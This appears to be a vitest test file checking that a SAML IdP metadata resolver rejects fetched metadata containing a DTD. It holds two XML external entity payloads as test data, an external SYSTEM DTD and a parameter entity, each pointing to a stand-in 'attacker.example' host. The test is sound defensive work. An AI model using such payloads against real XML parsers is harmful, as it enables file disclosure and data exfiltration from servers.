import { describe, expect, it } from 'vitest';
import { ApiError } from '../../http/errors.ts';
import { resolveSamlIdp } from './inputs.ts';

const IDP = `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://idp.example.test"><md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"><md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="https://idp.example.test/sso"/></md:IDPSSODescriptor></md:EntityDescriptor>`;

describe('SAML IdP settings from a metadata URL', () => {
  it('refuses a fetched metadata document that carries a DTD (an external subset or parameter entities)', async () => {
    for (const dtd of ['<!DOCTYPE md SYSTEM "https://attacker.example/md.dtd">', '<!DOCTYPE md [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]>']) {
      const err = await resolveSamlIdp({ metadata_url: 'https://idp.example.test/metadata' }, async () => `${dtd}${IDP}`).catch((e: unknown) => e);
      expect(err).toBeInstanceOf(ApiError);
      expect(err).toMatchObject({ status: 400, code: 'invalid_metadata', message: expect.stringMatching(/DTD/) });
    }
  });
});
